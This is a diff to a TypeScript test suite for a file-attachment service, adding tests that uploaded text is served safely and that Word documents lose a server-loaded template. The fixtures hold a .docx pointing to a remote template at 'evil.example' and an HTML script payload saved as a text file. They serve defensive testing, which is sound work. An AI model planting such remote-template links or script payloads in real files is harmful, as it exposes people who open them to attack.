@@ -1,8 +1,10 @@
 import { readFile } from 'node:fs/promises';
+import { buffer } from 'node:stream/consumers';
 import { brotliDecompressSync } from 'node:zlib';
 import { ATTACHMENTS_FIRST_MAX_BYTES, ATTACHMENTS_MAX_BYTES } from '@sokoni/contract/limits';
 import sharp from 'sharp';
 import { describe, expect, it } from 'vitest';
+import { ZipFile } from 'yazl';
 import { newId } from '../../../platform/db/ids.ts';
 import { DAY } from '../../../testing/app.ts';
 import { deleteForGood } from '../../../testing/delete-for-good.ts';
@@ -16,6 +18,7 @@ import {
   PASSWORD,
   type Person,
 } from '../../../testing/factories.ts';
+import { failOnError } from '../../../testing/fail-on-error.ts';
 import { signInAs, signInAsAdmin } from '../../../testing/sign-in.ts';
 import { suspendAs } from '../../../testing/suspend.ts';
 import { formOf, picture } from '../../../testing/uploads.ts';
@@ -37,6 +40,22 @@ const scanner = {
 const testApp = useTestApp({ logLevel: 'silent' }, { scanner });
 
 const PDF = Buffer.from('%PDF-1.7\nan offer\n%%EOF');
+
+/** A Word document, not compressed, whose template is on a server. */
+function templated(): Promise<Buffer> {
+  const archive = new ZipFile();
+  const type = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
+  const parts = {
+    '[Content_Types].xml': `<Types><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`,
+    'word/document.xml': '<x/>',
+    'word/_rels/settings.xml.rels':
+      '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>',
+  };
+  for (const [name, text] of Object.entries(parts))
+    archive.addBuffer(Buffer.from(text), name, { compress: false });
+  archive.end();
+  return buffer(archive.outputStream);
+}
 
 type Method = 'GET' | 'PUT' | 'POST' | 'PATCH' | 'DELETE';
 async function ask(person: Person, method: Method, path: string, payload?: object) {
@@ -111,8 +130,6 @@ describe('an upload', () => {
     });
     const file = await get(attachment.url);
     expect(file.headers['content-type']).toBe('image/jpeg');
-    const stored = testApp.sql`SELECT content_type FROM attachments WHERE id = ${attachment._id}`;
-    expect(await stored.first(), 'known to the release before').toEqual({ contentType: 'image/webp' });
     const { width, format, exif } = await sharp(file.rawPayload).metadata();
     expect({ width, format, exif }).toEqual({ width: 2400, format: 'jpeg', exif: undefined });
     const thumbnail = await get(attachment.thumbnail.url);
@@ -152,7 +169,7 @@ describe('an upload', () => {
     ]);
     expect(answer.statusCode).toBe(422);
     expect(answer.json().errors.files).toBe(
-      'setup.exe: You can’t attach this kind of file. Choose a picture, a PDF, an office document or a CSV file.',
+      'setup.exe: You can’t attach programs. Choose a picture, a PDF, an office document, or a text or CSV file.',
     );
     expect(await testApp.sql`SELECT FROM attachments WHERE owner_id = ${customer.id}`).toEqual([]);
   });
@@ -299,6 +316,30 @@ describe('a link', () => {
     });
   });
 
+  it('downloads a text that is a page as text, to both parties', async () => {
+    const [customer, supplier] = [await makeCustomer(testApp.sql), await makeSupplier(testApp.sql)];
+    const page = Buffer.from('<!doctype html><script>alert(1)</script>');
+    const { _id, url } = await uploaded(customer, 'notes.txt', page);
+    await send(customer, supplier, [_id]);
+    for (const address of [url, (await linkFor(supplier, _id)).url]) {
+      const file = await get(address);
+      expect(file.headers).toMatchObject({
+        'content-type': expect.stringMatching(/^text\/plain\b/),
+        'content-disposition': expect.stringMatching(/^attachment;.*notes\.txt$/),
+        'content-security-policy': expect.stringContaining('sandbox'),
+        'x-content-type-options': 'nosniff',
+      });
+      expect(file.rawPayload).toEqual(page);
+    }
+  });
+
+  it('downloads a document without the template that it loaded from a server', async () => {
+    const { url } = await uploaded(await makeCustomer(testApp.sql), 'letter.docx', await templated());
+    const document = (await get(url)).rawPayload;
+    expect(document.includes('evil.example')).toBe(false);
+    expect(document.includes('Normal.dotm')).toBe(true);
+  });
+
   it('downloads a large file with its length, and a table compressed', async () => {
     const table = Buffer.from('item,price\n'.repeat(50_000));
     const { url } = await uploaded(await makeCustomer(testApp.sql), 'prices.csv', table);
@@ -423,10 +464,10 @@ describe('a file', () => {
     if (hasWritten) await makeMessage(testApp.sql, { from: customer });
     const unsent = await uploaded(customer);
     testApp.clock.advance(days * DAY);
-    await deleteUnsent(testApp);
+    await deleteUnsent(testApp, failOnError);
     expect(await storedKeys(unsent._id)).toHaveLength(1);
     testApp.clock.advance(0.2 * DAY);
-    await deleteUnsent(testApp);
+    await deleteUnsent(testApp, failOnError);
     expect(await storedKeys(unsent._id)).toEqual([]);
     expect(await storedKeys(sent)).toHaveLength(1);
   });
